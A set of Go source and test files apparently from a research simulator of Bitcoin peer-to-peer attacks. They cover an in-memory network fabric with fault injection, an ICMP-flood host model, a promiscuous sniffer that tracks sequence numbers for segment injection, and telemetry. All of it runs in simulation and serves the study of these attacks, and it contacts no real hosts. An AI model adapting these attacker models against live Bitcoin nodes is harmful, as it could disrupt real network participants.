	// faults, when non-nil, degrades the local→remote direction (set at
	// dial time from the fabric's fault table). The fault-free path pays
	// exactly one nil check.
	faults *faultState

	// rxBytes/rxPackets count bytes delivered to the remote endpoint via
	// this sender while no sniffer is attached: the sniffer-free fast
	// path that keeps 100k concurrent writers off the fabric's global
	// lock. dropConn folds them into the Network's per-address maps.
	rxBytes   atomic.Uint64
	rxPackets atomic.Uint64

	closeOnce sync.Once
}

var _ net.Conn = (*Conn)(nil)

// Read implements net.Conn.
func (c *Conn) Read(p []byte) (int, error) { return c.recv.read(p) }

// Write implements net.Conn. Bytes written are mirrored to any sniffers
// observing the link and counted toward the receiver's bandwidth. When the
// link carries a FaultPlan or crosses an active partition, the write is
// subject to delay, loss, or reset before (or instead of) delivery. With a
// lifecycle tracer installed on the fabric, 1-in-N writes are recorded as
// conn_write spans (including any fault delay and receiver back-pressure).
func (c *Conn) Write(p []byte) (int, error) {
	if t := c.network.tracer.Load(); t != nil {
		if ctx := t.Sample(); ctx != nil {
			start := clk.Now()
			n, err := c.write(p)
			ctx.Add(trace.Span{
				Stage: trace.StageConnWrite,
				Peer:  string(c.remote),
				Note:  fmt.Sprintf("from=%s bytes=%d", c.local, n),
				Start: start, Duration: clk.Since(start),
			})
			return n, err
		}
	}
	return c.write(p)
}

// write is the untraced body of Write.
func (c *Conn) write(p []byte) (int, error) {
	if c.network.partActive.Load() != 0 && c.network.isPartitioned(c.local, c.remote) {
		// Blackholed by a partition: the sender's kernel accepts the
		// bytes; the route drops them.
		c.network.faultDrops.Add(1)
		return len(p), nil
	}
	if c.faults != nil {
		return c.writeFaulty(p)
	}
	n, err := c.send.write(p)
	if err != nil {
		return n, err
	}
	c.observeDelivery(p[:n])
	return n, nil
}

// observeDelivery accounts a delivered write. Without sniffers attached the
// bytes land in this connection's atomic counters — no fabric lock; with a
// tap active the write is mirrored through the fabric's observe path.
func (c *Conn) observeDelivery(p []byte) {
	if c.network.snifferCount.Load() == 0 {
		c.rxBytes.Add(uint64(len(p)))
		c.rxPackets.Add(1)
		return
	}
	c.network.observe(c.local, c.remote, p)
}

// Close implements net.Conn, closing both directions.
func (c *Conn) Close() error {
	c.closeOnce.Do(func() {
		if c.faults != nil {
			c.faults.closeState()
		}
		c.recv.close()
		c.send.close()
		c.network.dropConn(c)
	})
	return nil
}

// reset tears the connection down hard: both directions fail with
// ErrConnReset and buffered data is discarded, like a TCP RST.
func (c *Conn) reset() {
	c.closeOnce.Do(func() {
		if c.faults != nil {
			c.faults.closeState()
		}
		c.recv.closeWithErr(ErrConnReset, true)
		c.send.closeWithErr(ErrConnReset, true)
		c.network.dropConn(c)
	})
}

// LocalAddr implements net.Conn.
func (c *Conn) LocalAddr() net.Addr { return c.local }

// RemoteAddr implements net.Conn.
func (c *Conn) RemoteAddr() net.Addr { return c.remote }

// SetDeadline implements net.Conn, covering both directions.
func (c *Conn) SetDeadline(t time.Time) error {
	c.recv.setReadDeadline(t)
	c.send.setWriteDeadline(t)
	return nil
}

// SetReadDeadline implements net.Conn.
func (c *Conn) SetReadDeadline(t time.Time) error {
	c.recv.setReadDeadline(t)
	return nil
}

// SetWriteDeadline implements net.Conn. A writer blocked on a full peer
// buffer past the deadline fails with ErrDeadlineExceeded — the signal the
// peer layer's per-message write timeout turns into a disconnect.
func (c *Conn) SetWriteDeadline(t time.Time) error {
	c.send.setWriteDeadline(t)
	return nil
}

// SendSeq returns the number of bytes this endpoint has sent — the
// simulation's TCP sequence state an injector must know.
func (c *Conn) SendSeq() uint64 { return c.send.sequence() }

// ReadBuffered reports how many bytes Read would return without blocking
// and whether the receive direction has been closed (EOF or reset is
// pending once the buffer drains). It is the readiness probe the event-loop
// dispatcher uses in place of a blocked reader goroutine.
func (c *Conn) ReadBuffered() (n int, closed bool) { return c.recv.buffered() }

// PeekBuffered copies up to len(p) buffered receive bytes into p without
// consuming them, returning the count copied. An event loop peeks the
// 24-byte wire header to learn the frame length before committing to a
// decode.
func (c *Conn) PeekBuffered(p []byte) int { return c.recv.peek(p) }

// WriteSpace reports how many bytes Write could accept without blocking on
// the peer's socket buffer, and whether the send direction is closed.
func (c *Conn) WriteSpace() (n int, closed bool) { return c.send.space() }

// SetReadable registers fn to run whenever bytes arrive on the receive
// direction or it closes. fn runs on the writer's goroutine with no pipe
// locks held, so it may take scheduler locks (the required order is
// pipeHalf.mu before any scheduler lock) but must not block. The callback
// is an edge trigger: fn must re-check ReadBuffered itself. Pass nil to
// unregister.
func (c *Conn) SetReadable(fn func()) { c.recv.setOnData(fn) }

// SetWritable registers fn to run whenever room frees on the send direction
// or it closes. Same contract as SetReadable.
func (c *Conn) SetWritable(fn func()) { c.send.setOnRoom(fn) }

// ErrSeqMismatch is returned by Inject when the claimed sequence number does
// not match the stream state — the simulation of an out-of-window TCP
// segment being discarded by the receiver.
var ErrSeqMismatch = errors.New("simnet: injected segment sequence number out of window")
