package simnet

import (
	"sync"
	"sync/atomic"
)

// Packet is a network-layer datagram (the simulation's ICMP echo request).
type Packet struct {
	From Addr
	To   Addr
	Data []byte
}

// PacketHost models the victim's kernel-level packet path. Arriving
// datagrams are processed by the host goroutine with a cheap, fixed-cost
// handler (an internet checksum over the payload) — in contrast to Bitcoin
// PING, which traverses the full application-layer message pipeline. This
// asymmetry is the paper's explanation for why BM-DoS hurts the mining rate
// more than ICMP flooding at equal rates (§VI-C).
type PacketHost struct {
	addr Addr
	ch   chan Packet

	processed atomic.Uint64
	bytes     atomic.Uint64
	checksum  atomic.Uint32 // accumulated, so the work cannot be optimized away

	stopOnce sync.Once
	stop     chan struct{}
	done     chan struct{}
}

// NewPacketHost starts a kernel-path host for addr on the fabric. Callers
// must Close it.
func (n *Network) NewPacketHost(addr string) *PacketHost {
	h := &PacketHost{
		addr: Addr(addr),
		ch:   make(chan Packet, 65536),
		stop: make(chan struct{}),
		done: make(chan struct{}),
	}
	go h.run()
	return h
}

// run is the kernel softirq loop.
func (h *PacketHost) run() {
	defer close(h.done)
	for {
		select {
		case <-h.stop:
			return
		case pkt := <-h.ch:
			h.process(pkt)
		}
	}
}

// process performs the kernel-level work for one datagram: validate an
// internet checksum over the payload and account it.
func (h *PacketHost) process(pkt Packet) {
	var sum uint32
	data := pkt.Data
	for i := 0; i+1 < len(data); i += 2 {
		sum += uint32(data[i])<<8 | uint32(data[i+1])
	}
	if len(data)%2 == 1 {
		sum += uint32(data[len(data)-1]) << 8
	}
	for sum>>16 != 0 {
		sum = (sum & 0xffff) + (sum >> 16)
	}
	h.checksum.Add(sum)
	h.processed.Add(1)
	h.bytes.Add(uint64(len(pkt.Data)))
}

// Deliver enqueues a datagram to the host, returning false if the queue is
// full (the packet is dropped, as a flooded NIC would).
func (h *PacketHost) Deliver(pkt Packet) bool {
	select {
	case h.ch <- pkt:
		return true
	default:
		return false
	}
}

// Processed returns how many datagrams the kernel path has handled.
func (h *PacketHost) Processed() uint64 { return h.processed.Load() }

// Bytes returns the total payload bytes handled.
func (h *PacketHost) Bytes() uint64 { return h.bytes.Load() }

// Close stops the host goroutine and waits for it to exit.
func (h *PacketHost) Close() {
	h.stopOnce.Do(func() { close(h.stop) })
	<-h.done
}

// SendPacket delivers a network-layer datagram to the host, counting it in
// the fabric's bandwidth accounting. Source validation is absent here too:
// ICMP floods routinely spoof sources.
func (n *Network) SendPacket(h *PacketHost, from string, data []byte) bool {
	if n.partActive.Load() != 0 && n.isPartitioned(Addr(from), h.addr) {
		n.faultDrops.Add(1)
		return false
	}
	ok := h.Deliver(Packet{From: Addr(from), To: h.addr, Data: data})
	if ok {
		n.mu.Lock()
		n.rxBytes[h.addr] += uint64(len(data))
		n.rxPackets[h.addr]++
		n.mu.Unlock()
	} else {
		n.drops.Add(1)
	}
	return ok
}
