package simnet

import "banscore/internal/telemetry"

// Instrument registers the fabric's traffic accounting with reg. Everything
// is pull-style: the fabric keeps its existing counters and the registry
// reads them at scrape time, so simulation throughput is unaffected.
func (n *Network) Instrument(reg *telemetry.Registry) {
	reg.Describe("simnet_bytes_delivered_total", "Bytes delivered across the fabric, all destinations.")
	reg.CounterFunc("simnet_bytes_delivered_total", func() float64 {
		n.mu.Lock()
		defer n.mu.Unlock()
		var total uint64
		for _, b := range n.rxBytes {
			total += b
		}
		return float64(total)
	})
	reg.Describe("simnet_packets_delivered_total", "Datagrams and stream writes delivered across the fabric.")
	reg.CounterFunc("simnet_packets_delivered_total", func() float64 {
		n.mu.Lock()
		defer n.mu.Unlock()
		var total uint64
		for _, p := range n.rxPackets {
			total += p
		}
		return float64(total)
	})
	reg.Describe("simnet_packets_dropped_total", "Datagrams discarded at full host queues (flooded-NIC loss).")
	reg.CounterFunc("simnet_packets_dropped_total", func() float64 {
		return float64(n.PacketsDropped())
	})
	reg.Describe("simnet_conns_active", "Open connection endpoints on the fabric.")
	reg.GaugeFunc("simnet_conns_active", func() float64 {
		n.mu.Lock()
		defer n.mu.Unlock()
		return float64(len(n.conns))
	})
	reg.Describe("simnet_listeners_active", "Bound listeners on the fabric.")
	reg.GaugeFunc("simnet_listeners_active", func() float64 {
		n.mu.Lock()
		defer n.mu.Unlock()
		return float64(len(n.listeners))
	})
}
