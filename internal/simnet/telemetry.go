package simnet

import "banscore/internal/telemetry"

// Instrument registers the fabric's traffic accounting with reg. Everything
// is pull-style: the fabric keeps its existing counters and the registry
// reads them at scrape time, so simulation throughput is unaffected.
func (n *Network) Instrument(reg *telemetry.Registry) {
	reg.Describe("simnet_bytes_delivered_total", "Bytes delivered across the fabric, all destinations.")
	reg.CounterFunc("simnet_bytes_delivered_total", func() float64 {
		n.mu.Lock()
		defer n.mu.Unlock()
		var total uint64
		for _, b := range n.rxBytes {
			total += b
		}
		return float64(total)
	})
	reg.Describe("simnet_packets_delivered_total", "Datagrams and stream writes delivered across the fabric.")
	reg.CounterFunc("simnet_packets_delivered_total", func() float64 {
		n.mu.Lock()
		defer n.mu.Unlock()
		var total uint64
		for _, p := range n.rxPackets {
			total += p
		}
		return float64(total)
	})
	reg.Describe("simnet_packets_dropped_total", "Datagrams discarded at full host queues (flooded-NIC loss).")
	reg.CounterFunc("simnet_packets_dropped_total", func() float64 {
		return float64(n.PacketsDropped())
	})
	reg.Describe("simnet_conns_active", "Open connection endpoints on the fabric.")
	reg.GaugeFunc("simnet_conns_active", func() float64 {
		n.mu.Lock()
		defer n.mu.Unlock()
		return float64(len(n.conns))
	})
	reg.Describe("simnet_listeners_active", "Bound listeners on the fabric.")
	reg.GaugeFunc("simnet_listeners_active", func() float64 {
		n.mu.Lock()
		defer n.mu.Unlock()
		return float64(len(n.listeners))
	})

	// Fault layer (see faults.go): everything the chaos fabric injected.
	reg.Describe("simnet_fault_payloads_dropped_total", "Writes discarded by DropRate or partition blackholes.")
	reg.CounterFunc("simnet_fault_payloads_dropped_total", func() float64 {
		return float64(n.faultDrops.Load())
	})
	reg.Describe("simnet_fault_payloads_delayed_total", "Writes delivered through a latency queue.")
	reg.CounterFunc("simnet_fault_payloads_delayed_total", func() float64 {
		return float64(n.faultDelayed.Load())
	})
	reg.Describe("simnet_fault_conns_reset_total", "Connections killed by injected resets.")
	reg.CounterFunc("simnet_fault_conns_reset_total", func() float64 {
		return float64(n.faultResets.Load())
	})
	reg.Describe("simnet_fault_dials_failed_total", "Dials killed by injected failures, blackholes, or partitions.")
	reg.CounterFunc("simnet_fault_dials_failed_total", func() float64 {
		return float64(n.faultDialsFailed.Load())
	})
	reg.Describe("simnet_partitions_active", "Named partitions currently installed on the fabric.")
	reg.GaugeFunc("simnet_partitions_active", func() float64 {
		return float64(n.partActive.Load())
	})
}
