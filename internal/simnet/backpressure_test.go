package simnet

import (
	"io"
	"net"
	"testing"
	"time"
)

// pipePair returns a connected client/server conn pair.
func pipePair(t *testing.T) (client, server net.Conn, cleanup func()) {
	t.Helper()
	n := NewNetwork()
	l, err := n.Listen("10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	accepted := make(chan net.Conn, 1)
	go func() {
		c, _ := l.Accept()
		accepted <- c
	}()
	c, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	s := <-accepted
	return c, s, n.Close
}

func TestWriterBlocksAtBufferCap(t *testing.T) {
	client, server, cleanup := pipePair(t)
	defer cleanup()

	// Fill the buffer past the cap; the next write must block.
	chunk := make([]byte, pipeBufferCap)
	if _, err := client.Write(chunk); err != nil {
		t.Fatal(err)
	}
	blocked := make(chan struct{})
	released := make(chan error, 1)
	go func() {
		close(blocked)
		_, err := client.Write([]byte("x"))
		released <- err
	}()
	<-blocked
	select {
	case err := <-released:
		t.Fatalf("write did not block at capacity (err=%v)", err)
	case <-time.After(50 * time.Millisecond):
	}

	// Draining the reader releases the writer.
	buf := make([]byte, 64*1024)
	for drained := 0; drained < pipeBufferCap; {
		n, err := server.Read(buf)
		if err != nil {
			t.Fatal(err)
		}
		drained += n
	}
	select {
	case err := <-released:
		if err != nil {
			t.Fatalf("released write failed: %v", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("writer not released by reader drain")
	}
}

func TestBlockedWriterReleasedByClose(t *testing.T) {
	client, server, cleanup := pipePair(t)
	defer cleanup()
	_ = server

	if _, err := client.Write(make([]byte, pipeBufferCap)); err != nil {
		t.Fatal(err)
	}
	released := make(chan error, 1)
	go func() {
		_, err := client.Write([]byte("x"))
		released <- err
	}()
	time.Sleep(20 * time.Millisecond)
	client.Close()
	select {
	case err := <-released:
		if err == nil {
			t.Fatal("blocked write succeeded after close")
		}
	case <-time.After(2 * time.Second):
		t.Fatal("blocked writer not released by close")
	}
}

func TestBlockedWriterReleasedByPeerClose(t *testing.T) {
	client, server, cleanup := pipePair(t)
	defer cleanup()

	if _, err := client.Write(make([]byte, pipeBufferCap)); err != nil {
		t.Fatal(err)
	}
	released := make(chan error, 1)
	go func() {
		_, err := client.Write([]byte("x"))
		released <- err
	}()
	time.Sleep(20 * time.Millisecond)
	server.Close()
	select {
	case err := <-released:
		if err == nil {
			t.Fatal("blocked write succeeded after peer close")
		}
	case <-time.After(2 * time.Second):
		t.Fatal("blocked writer not released by peer close")
	}
}

func TestOversizeSingleWriteAccepted(t *testing.T) {
	// One write larger than the cap is accepted whole (bounded
	// overshoot): a 4 MiB+ block message must still transit.
	client, server, cleanup := pipePair(t)
	defer cleanup()

	big := make([]byte, pipeBufferCap+1024)
	for i := range big {
		big[i] = byte(i)
	}
	done := make(chan error, 1)
	go func() {
		_, err := client.Write(big)
		done <- err
	}()
	got := make([]byte, len(big))
	if _, err := io.ReadFull(server, got); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	for i := range got {
		if got[i] != big[i] {
			t.Fatalf("byte %d corrupted", i)
		}
	}
}

func TestThroughputUnderSustainedFlood(t *testing.T) {
	// A fast writer against a slow-but-steady reader must make progress
	// without unbounded memory (implicitly: the cap bounds the buffer).
	client, server, cleanup := pipePair(t)
	defer cleanup()

	const total = 64 * 1024 * 1024 // 64 MiB through a 4 MiB buffer
	writeDone := make(chan error, 1)
	go func() {
		chunk := make([]byte, 128*1024)
		written := 0
		for written < total {
			n, err := client.Write(chunk)
			if err != nil {
				writeDone <- err
				return
			}
			written += n
		}
		writeDone <- nil
	}()
	buf := make([]byte, 256*1024)
	read := 0
	for read < total {
		n, err := server.Read(buf)
		if err != nil {
			t.Fatal(err)
		}
		read += n
	}
	if err := <-writeDone; err != nil {
		t.Fatal(err)
	}
}
