package simnet

import "sync"

// Segment is one observed delivery on the fabric.
type Segment struct {
	From Addr
	To   Addr
	Data []byte
	// Seq is the receiver-stream sequence number at which Data begins.
	Seq uint64
}

// Sniffer is a promiscuous tap on the fabric: it receives a copy of every
// delivered segment whose source or destination matches its filter. It
// models the paper's same-network eavesdropping capability (promiscuous
// mode) needed for post-connection Defamation.
type Sniffer struct {
	network *Network
	filter  func(from, to Addr) bool

	mu      sync.Mutex
	nextSeq map[link]uint64
	ch      chan Segment
	closed  bool
}

// NewSniffer attaches a tap. filter selects which segments are captured; a
// nil filter captures everything. The channel buffers up to 4096 segments;
// overflow segments are dropped (like a busy pcap).
func (n *Network) NewSniffer(filter func(from, to Addr) bool) *Sniffer {
	s := &Sniffer{
		network: n,
		filter:  filter,
		nextSeq: make(map[link]uint64),
		ch:      make(chan Segment, 4096),
	}
	n.mu.Lock()
	n.sniffers = append(n.sniffers, s)
	n.snifferCount.Add(1)
	n.mu.Unlock()
	return s
}

// C returns the capture channel.
func (s *Sniffer) C() <-chan Segment { return s.ch }

// deliver is called by the fabric on every matching write.
func (s *Sniffer) deliver(from, to Addr, data []byte) {
	if s.filter != nil && !s.filter(from, to) {
		return
	}
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return
	}
	l := link{from: from, to: to}
	seq := s.nextSeq[l]
	s.nextSeq[l] = seq + uint64(len(data))
	seg := Segment{From: from, To: to, Data: append([]byte(nil), data...), Seq: seq}
	select {
	case s.ch <- seg:
	default: // drop on overflow
	}
	s.mu.Unlock()
}

// NextSeq returns the next receiver-stream sequence number the sniffer has
// observed for the from→to direction — exactly the state Algorithm 1's
// attacker learns by real-time eavesdropping before injecting.
func (s *Sniffer) NextSeq(from, to string) uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.nextSeq[link{from: Addr(from), to: Addr(to)}]
}

// Close detaches the tap.
func (s *Sniffer) Close() {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return
	}
	s.closed = true
	close(s.ch)
	s.mu.Unlock()

	s.network.mu.Lock()
	for i, tap := range s.network.sniffers {
		if tap == s {
			s.network.sniffers = append(s.network.sniffers[:i], s.network.sniffers[i+1:]...)
			s.network.snifferCount.Add(-1)
			break
		}
	}
	s.network.mu.Unlock()
}
