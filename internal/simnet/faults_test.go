package simnet

import (
	"errors"
	"io"
	"testing"
	"time"
)

// faultedPair dials a client/server pair over a fabric with the given
// default plan installed.
func faultedPair(t *testing.T, n *Network, plan *FaultPlan) (client, server *Conn) {
	t.Helper()
	if plan != nil {
		n.SetDefaultFaults(plan)
	}
	l, err := n.Listen("10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	accepted := make(chan *Conn, 1)
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		accepted <- c.(*Conn)
	}()
	c, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	return c, <-accepted
}

func TestLatencyDelaysDeliveryAndReadDeadlineFires(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	client, server := faultedPair(t, n, &FaultPlan{Latency: 150 * time.Millisecond})

	start := time.Now()
	if _, err := client.Write([]byte("delayed")); err != nil {
		t.Fatal(err)
	}

	// A read deadline inside the latency window expires without data —
	// satellite coverage: read deadline during an injected delay.
	server.SetReadDeadline(time.Now().Add(30 * time.Millisecond))
	buf := make([]byte, 16)
	if _, err := server.Read(buf); !errors.Is(err, ErrDeadlineExceeded) {
		t.Fatalf("read during latency window = %v, want deadline exceeded", err)
	}

	// Without a deadline the payload arrives, and not before the latency.
	server.SetReadDeadline(time.Time{})
	got, err := server.Read(buf)
	if err != nil || string(buf[:got]) != "delayed" {
		t.Fatalf("read = %q, %v", buf[:got], err)
	}
	if elapsed := time.Since(start); elapsed < 150*time.Millisecond {
		t.Fatalf("payload arrived after %v, want >= 150ms", elapsed)
	}
}

func TestLatencyPreservesOrder(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	client, server := faultedPair(t, n, &FaultPlan{Latency: 10 * time.Millisecond, Jitter: 30 * time.Millisecond})

	msgs := []string{"aa", "bb", "cc", "dd", "ee"}
	for _, m := range msgs {
		if _, err := client.Write([]byte(m)); err != nil {
			t.Fatal(err)
		}
	}
	var got []byte
	buf := make([]byte, 16)
	for len(got) < 10 {
		k, err := server.Read(buf)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, buf[:k]...)
	}
	if string(got) != "aabbccddee" {
		t.Fatalf("jittered stream reordered: %q", got)
	}
}

func TestResetAfterBytes(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	client, server := faultedPair(t, n, &FaultPlan{ResetAfterBytes: 10})

	if _, err := client.Write(make([]byte, 8)); err != nil {
		t.Fatal(err)
	}
	// Crossing the byte budget resets the connection...
	if _, err := client.Write(make([]byte, 8)); !errors.Is(err, ErrConnReset) {
		t.Fatalf("write over reset budget = %v, want ErrConnReset", err)
	}
	// ...writes into the reset connection keep failing (satellite
	// coverage: write into reset connection)...
	if _, err := client.Write([]byte("x")); err == nil {
		t.Fatal("write into reset connection succeeded")
	}
	// ...and the peer sees a hard reset, not a graceful EOF: buffered
	// data was discarded like a real RST.
	if _, err := server.Read(make([]byte, 8)); !errors.Is(err, ErrConnReset) {
		t.Fatalf("peer read after reset = %v, want ErrConnReset", err)
	}
	if n.FaultStats().ConnsReset != 1 {
		t.Fatalf("ConnsReset = %d, want 1", n.FaultStats().ConnsReset)
	}
}

func TestDropRateIsDeterministic(t *testing.T) {
	deliveredBytes := func() uint64 {
		n := NewNetwork()
		defer n.Close()
		client, _ := faultedPair(t, n, &FaultPlan{DropRate: 0.5, Seed: 42})
		for i := 0; i < 100; i++ {
			if _, err := client.Write(make([]byte, 10)); err != nil {
				t.Fatal(err)
			}
		}
		return n.BytesDelivered("10.0.0.1:8333")
	}
	a, b := deliveredBytes(), deliveredBytes()
	if a != b {
		t.Fatalf("same seed delivered %d then %d bytes", a, b)
	}
	if a == 0 || a == 1000 {
		t.Fatalf("50%% drop delivered %d of 1000 bytes", a)
	}
}

func TestPartitionBlackholesAndHeals(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	client, server := faultedPair(t, n, nil)

	n.Partition("cut", []string{"10.0.0.2"}, []string{"10.0.0.1"})

	// Established connection: writes are accepted and silently dropped.
	if _, err := client.Write([]byte("lost")); err != nil {
		t.Fatal(err)
	}
	server.SetReadDeadline(time.Now().Add(30 * time.Millisecond))
	if _, err := server.Read(make([]byte, 8)); !errors.Is(err, ErrDeadlineExceeded) {
		t.Fatalf("read across partition = %v, want deadline exceeded", err)
	}

	// New dials across the cut fail fast — satellite coverage: dial into
	// a partitioned address.
	if _, err := n.Dial("10.0.0.2:9", "10.0.0.1:8333"); !errors.Is(err, ErrUnreachable) {
		t.Fatalf("dial across partition = %v, want ErrUnreachable", err)
	}

	n.Heal("cut")
	if _, err := n.Dial("10.0.0.2:9", "10.0.0.1:8333"); err != nil {
		t.Fatalf("dial after heal = %v", err)
	}
	if _, err := client.Write([]byte("back")); err != nil {
		t.Fatal(err)
	}
	server.SetReadDeadline(time.Now().Add(time.Second))
	buf := make([]byte, 8)
	k, err := server.Read(buf)
	if err != nil || string(buf[:k]) != "back" {
		t.Fatalf("read after heal = %q, %v", buf[:k], err)
	}
}

func TestDialFaults(t *testing.T) {
	t.Run("fail next dials", func(t *testing.T) {
		n := NewNetwork()
		defer n.Close()
		if _, err := n.Listen("10.0.0.1:8333"); err != nil {
			t.Fatal(err)
		}
		n.FailNextDials("10.0.0.1:8333", 2)
		for i := 0; i < 2; i++ {
			if _, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333"); !errors.Is(err, ErrInjectedDialFailure) {
				t.Fatalf("dial %d = %v, want injected failure", i, err)
			}
		}
		if _, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333"); err != nil {
			t.Fatalf("dial after budget spent = %v", err)
		}
	})
	t.Run("dial fail rate certain", func(t *testing.T) {
		n := NewNetwork()
		defer n.Close()
		if _, err := n.Listen("10.0.0.1:8333"); err != nil {
			t.Fatal(err)
		}
		n.SetLinkFaults("10.0.0.2", "10.0.0.1:8333", &FaultPlan{DialFailRate: 1})
		if _, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333"); !errors.Is(err, ErrInjectedDialFailure) {
			t.Fatalf("dial = %v, want injected failure", err)
		}
		// Other sources are untouched by the one-way link plan.
		if _, err := n.Dial("10.0.0.3:1", "10.0.0.1:8333"); err != nil {
			t.Fatalf("unfaulted dial = %v", err)
		}
	})
	t.Run("blackhole times out", func(t *testing.T) {
		n := NewNetwork()
		defer n.Close()
		if _, err := n.Listen("10.0.0.1:8333"); err != nil {
			t.Fatal(err)
		}
		n.SetLinkFaults("*", "10.0.0.1:8333", &FaultPlan{DialBlackhole: true, BlackholeDelay: 20 * time.Millisecond})
		start := time.Now()
		_, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
		var nerr interface{ Timeout() bool }
		if !errors.As(err, &nerr) || !nerr.Timeout() {
			t.Fatalf("blackholed dial = %v, want timeout", err)
		}
		if time.Since(start) < 20*time.Millisecond {
			t.Fatal("blackholed dial returned before its delay")
		}
	})
}

func TestWriteDeadlineAtBufferCap(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	client, _ := faultedPair(t, n, nil)

	// Fill the peer's buffer to the cap; the next write blocks, and the
	// write deadline must release it.
	if _, err := client.Write(make([]byte, pipeBufferCap)); err != nil {
		t.Fatal(err)
	}
	client.SetWriteDeadline(time.Now().Add(40 * time.Millisecond))
	start := time.Now()
	if _, err := client.Write([]byte("x")); !errors.Is(err, ErrDeadlineExceeded) {
		t.Fatalf("write at cap = %v, want deadline exceeded", err)
	}
	if time.Since(start) > 2*time.Second {
		t.Fatal("write deadline far overshot")
	}
}

func TestWriteIntoClosedConnAfterFaultedClose(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	client, _ := faultedPair(t, n, &FaultPlan{Latency: 5 * time.Millisecond})
	if _, err := client.Write([]byte("x")); err != nil {
		t.Fatal(err)
	}
	client.Close()
	if _, err := client.Write([]byte("y")); !errors.Is(err, io.ErrClosedPipe) {
		t.Fatalf("write after close = %v, want ErrClosedPipe", err)
	}
}

// BenchmarkConnWrite verifies the fault layer is zero-cost when absent: the
// no-faults case must stay within noise of the pre-fault-layer write path.
func BenchmarkConnWrite(b *testing.B) {
	bench := func(b *testing.B, plan *FaultPlan) {
		n := NewNetwork()
		defer n.Close()
		if plan != nil {
			n.SetDefaultFaults(plan)
		}
		l, err := n.Listen("10.0.0.1:8333")
		if err != nil {
			b.Fatal(err)
		}
		go func() {
			c, err := l.Accept()
			if err != nil {
				return
			}
			buf := make([]byte, 64*1024)
			for {
				if _, err := c.Read(buf); err != nil {
					return
				}
			}
		}()
		client, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
		if err != nil {
			b.Fatal(err)
		}
		payload := make([]byte, 256)
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, err := client.Write(payload); err != nil {
				b.Fatal(err)
			}
		}
	}
	b.Run("no-faults", func(b *testing.B) { bench(b, nil) })
	b.Run("drop-faults", func(b *testing.B) { bench(b, &FaultPlan{DropRate: 0.1}) })
}
