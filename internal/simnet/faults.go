package simnet

import (
	"errors"
	"fmt"
	"hash/fnv"
	"io"
	"math/rand"
	"strings"
	"sync"
	"time"
)

// Fault-layer errors.
var (
	// ErrInjectedDialFailure: a dial was killed by FaultPlan.DialFailRate
	// or Network.FailNextDials.
	ErrInjectedDialFailure = errors.New("simnet: injected dial failure")

	// ErrUnreachable: the dial crossed an active partition.
	ErrUnreachable = errors.New("simnet: network unreachable")
)

// ErrDialTimeout is returned by a blackholed dial after BlackholeDelay. It
// is a net.Error timeout, like a SYN that was never answered.
var ErrDialTimeout error = &dialTimeoutError{}

type dialTimeoutError struct{}

func (*dialTimeoutError) Error() string   { return "simnet: dial timeout (blackholed)" }
func (*dialTimeoutError) Timeout() bool   { return true }
func (*dialTimeoutError) Temporary() bool { return true }

// DefaultBlackholeDelay is how long a blackholed dial hangs before failing
// when the plan does not specify BlackholeDelay.
const DefaultBlackholeDelay = 250 * time.Millisecond

// maxDelayQueue bounds the per-direction delayed-delivery queue; producers
// block beyond it (the fault layer's stand-in for the kernel's qdisc cap).
const maxDelayQueue = 8192

// FaultPlan describes the degradation of one link direction. The zero value
// injects nothing. Plans are deterministic: all randomness (jitter, drops,
// dial failures) flows from Seed mixed with the link endpoints, so a seeded
// scenario replays identically.
type FaultPlan struct {
	// Latency delays every delivered payload by this much (one-way).
	Latency time.Duration

	// Jitter adds a uniform random [0, Jitter) to each payload's delay.
	Jitter time.Duration

	// DropRate is the probability in [0,1] that a written payload is
	// silently discarded instead of delivered. On a stream transport a
	// dropped payload desynchronizes the framing — exactly the corruption
	// a lossy path inflicts on a real TCP connection whose retransmits
	// are suppressed — so peers typically detect it as a malformed stream
	// or a silent stall.
	DropRate float64

	// ResetAfterBytes hard-resets the connection (both directions fail
	// with ErrConnReset, buffers discarded) once the faulted direction
	// has attempted to send more than this many bytes. Zero disables.
	ResetAfterBytes int64

	// DialFailRate is the probability in [0,1] that a dial over this link
	// fails immediately with ErrInjectedDialFailure.
	DialFailRate float64

	// DialBlackhole makes dials over this link hang for BlackholeDelay
	// and then fail with ErrDialTimeout (an unanswered SYN).
	DialBlackhole bool

	// BlackholeDelay is how long a blackholed dial hangs; zero selects
	// DefaultBlackholeDelay.
	BlackholeDelay time.Duration

	// Seed drives the plan's RNG; zero selects a fixed default, so two
	// runs of the same scenario observe the same faults either way.
	Seed int64
}

// active reports whether the plan injects anything at all.
func (fp *FaultPlan) active() bool {
	if fp == nil {
		return false
	}
	return fp.Latency > 0 || fp.Jitter > 0 || fp.DropRate > 0 ||
		fp.ResetAfterBytes > 0 || fp.DialFailRate > 0 || fp.DialBlackhole
}

// delayedWrite is one payload in flight on a latency-faulted link.
type delayedWrite struct {
	data []byte
	due  time.Time
}

// faultState is the per-connection, per-direction instantiation of a
// FaultPlan: its own RNG, reset byte counter, and delayed-delivery queue.
type faultState struct {
	plan FaultPlan

	mu      sync.Mutex
	cond    *sync.Cond
	rng     *rand.Rand
	sent    int64
	q       []delayedWrite
